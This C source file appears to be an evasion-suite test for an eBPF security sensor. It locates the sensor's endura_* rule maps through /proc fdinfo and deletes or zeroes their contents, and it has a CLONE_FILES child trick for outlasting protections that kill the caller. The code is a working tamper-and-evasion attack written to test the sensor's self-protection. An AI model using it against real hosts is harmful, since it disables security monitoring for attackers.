// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Attack on the sensor's rule maps from outside (issue #14, self-protection attack 1), reusable by the
 * evasion suite: take every map the sensor process PID holds (the map ids in /proc/PID/fdinfo, readable
 * without bpf()), get an fd by id and try to empty the ones named endura_* (hash and LPM maps: delete every
 * key; arrays: overwrite every element with zeros). Only that process's maps: other sensors on the host are
 * left alone.
 *
 *   bpf_maps PID [--clone-files]
 *
 * With --clone-files every bpf() call is made by a short-lived child sharing this process's fd table
 * (clone(CLONE_FILES)): a tier that only kills the caller after the call (tracepoint) loses each child,
 * but the fds it obtained stay in the shared table and the kernel's results are in shared memory; this
 * process never calls bpf() itself. Prints one JSON object: what was found and what the kernel did.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

struct shared {
	union bpf_attr attr;
	struct bpf_map_info info;
	unsigned char key[64], next[64], value[512];
	long ret;
	int err;
};

static struct shared *sh;
static int clone_files, calls, killed;

/* one bpf() call, by a CLONE_FILES child or by this process; returns the result (-errno), or -EINTR when
 * the caller was killed (the kernel did the call; its outputs are in shared memory) */
static long call(int cmd)
{
	int status;
	pid_t pid;

	calls++;
	if (!clone_files) {
		long r = syscall(SYS_bpf, cmd, &sh->attr, sizeof(sh->attr));
		return r < 0 ? -errno : r;
	}
	sh->ret = -EINTR;
	pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (pid == 0) {
		long r = syscall(SYS_bpf, cmd, &sh->attr, sizeof(sh->attr));
		sh->ret = r < 0 ? -errno : r;
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -ECHILD;
	if (WIFSIGNALED(status)) {
		killed++;
		return -EINTR;
	}
	return sh->ret;
}

/* the highest fd now open (a new fd from a killed child: it cannot tell us its number) */
static int newest_fd(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	int best = -1;

	while (d && (e = readdir(d))) {
		int fd = atoi(e->d_name);
		if (fd > best && fd != dirfd(d))
			best = fd;
	}
	if (d)
		closedir(d);
	return best;
}

/* the map ids behind the fds of pid, sorted, without duplicates */
static int map_ids(const char *pid, unsigned int *ids, int max)
{
	char path[64], line[128];
	struct dirent *e;
	DIR *d;
	int n = 0;

	snprintf(path, sizeof(path), "/proc/%s/fdinfo", pid);
	d = opendir(path);
	while (d && (e = readdir(d)) && n < max) {
		FILE *f;
		snprintf(path, sizeof(path), "/proc/%s/fdinfo/%s", pid, e->d_name);
		f = fopen(path, "r");
		while (f && fgets(line, sizeof(line), f)) {
			unsigned int id;
			if (sscanf(line, "map_id: %u", &id) == 1) {
				int dup = 0;
				for (int i = 0; i < n; i++)
					dup |= ids[i] == id;
				if (!dup)
					ids[n++] = id;
			}
		}
		if (f)
			fclose(f);
	}
	if (d)
		closedir(d);
	return n;
}

int main(int argc, char **argv)
{
	unsigned int id = 0, ids[64];
	int nids, next = 0;
	int first = 1, deleted = 0, updated = 0, refused = 0, other = 0, keys_before = 0, keys_after = 0, maps = 0;

	if (argc < 2)
		return 2;
	clone_files = argc > 2 && !strcmp(argv[2], "--clone-files");
	nids = map_ids(argv[1], ids, 64);
	sh = mmap(NULL, sizeof(*sh), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return 2;
	printf("{\"maps\": {");
	for (;;) {
		int before = newest_fd(), fd;
		long r;

		if (next >= nids)
			break;
		id = ids[next++];
		memset(&sh->attr, 0, sizeof(sh->attr));
		sh->attr.map_id = id;
		r = call(BPF_MAP_GET_FD_BY_ID);
		fd = r >= 0 ? (int)r : newest_fd();
		if (fd < 0 || fd == before)
			continue;
		memset(&sh->info, 0, sizeof(sh->info));
		memset(&sh->attr, 0, sizeof(sh->attr));
		sh->attr.info.bpf_fd = fd;
		sh->attr.info.info_len = sizeof(sh->info);
		sh->attr.info.info = (unsigned long)&sh->info;
		call(BPF_OBJ_GET_INFO_BY_FD);
		if (strncmp(sh->info.name, "endura_", 7) || sh->info.type == BPF_MAP_TYPE_RINGBUF ||
		    sh->info.key_size > sizeof(sh->key) || sh->info.value_size > sizeof(sh->value)) {
			close(fd);
			continue;
		}
		printf("%s\"%s-%u\": ", first ? "" : ", ", sh->info.name, id);
		fflush(stdout);
		first = 0;
		maps++;
		/* every key first (deleting while walking restarts the walk) */
		{
			unsigned char keys[256][64];
			int n = 0, i;
			int array = sh->info.type == BPF_MAP_TYPE_ARRAY || sh->info.type == BPF_MAP_TYPE_PERCPU_ARRAY;
			unsigned int ks = sh->info.key_size, vs = sh->info.value_size;

			memset(sh->key, 0, sizeof(sh->key));
			for (int start = 1; n < 256; start = 0) {
				memset(&sh->attr, 0, sizeof(sh->attr));
				memset(sh->next, 0xa5, sizeof(sh->next)); /* unchanged: no next key */
				sh->attr.map_fd = fd;
				sh->attr.key = start ? 0 : (unsigned long)sh->key;
				sh->attr.next_key = (unsigned long)sh->next;
				r = call(BPF_MAP_GET_NEXT_KEY);
				if (r < 0 && r != -EINTR)
					break;
				if (r == -EINTR) {
					int untouched = 1;
					for (unsigned int b = 0; b < ks; b++)
						untouched &= sh->next[b] == 0xa5;
					if (untouched)
						break;
				}
				memcpy(keys[n++], sh->next, ks);
				memcpy(sh->key, sh->next, ks);
			}
			keys_before += n;
			int changed = 0, left = 0, before_refused = refused;
			for (i = 0; i < n; i++) {
				memset(&sh->attr, 0, sizeof(sh->attr));
				memcpy(sh->key, keys[i], ks);
				memset(sh->value, 0, vs);
				sh->attr.map_fd = fd;
				sh->attr.key = (unsigned long)sh->key;
				if (array) {
					sh->attr.value = (unsigned long)sh->value;
					r = call(BPF_MAP_UPDATE_ELEM);
				} else {
					r = call(BPF_MAP_DELETE_ELEM);
				}
				if (r == 0 || r == -EINTR)
					changed++; /* killed: the kernel did it (or refused it): the lookups below tell */
				if (r == 0)
					array ? updated++ : deleted++;
				else if (r == -EPERM)
					refused++;
				else
					other++;
			}
			/* what is left (arrays: elements still non-zero) */
			for (i = 0; i < n; i++) {
				memset(&sh->attr, 0, sizeof(sh->attr));
				memcpy(sh->key, keys[i], ks);
				memset(sh->value, 0, vs);
				sh->attr.map_fd = fd;
				sh->attr.key = (unsigned long)sh->key;
				sh->attr.value = (unsigned long)sh->value;
				r = call(BPF_MAP_LOOKUP_ELEM);
				if (r == 0 || r == -EINTR) {
					int nonzero = 0;
					for (unsigned int b = 0; b < vs; b++)
						nonzero |= sh->value[b];
					keys_after += array ? !!nonzero : 1;
					left += array ? !!nonzero : 1;
				}
			}
			printf("{\"keys\": %d, \"refused\": %d, \"left\": %d}", n, refused - before_refused, left);
			(void)changed;
		}
		close(fd);
	}
	printf("}, \"found\": %d, \"keys_before\": %d, \"keys_after\": %d, \"deleted\": %d, \"updated\": %d, "
	       "\"refused\": %d, \"other_errors\": %d, \"bpf_calls\": %d, \"children_killed\": %d}\n",
	       maps, keys_before, keys_after, deleted, updated, refused, other, calls, killed);
	return 0;
}
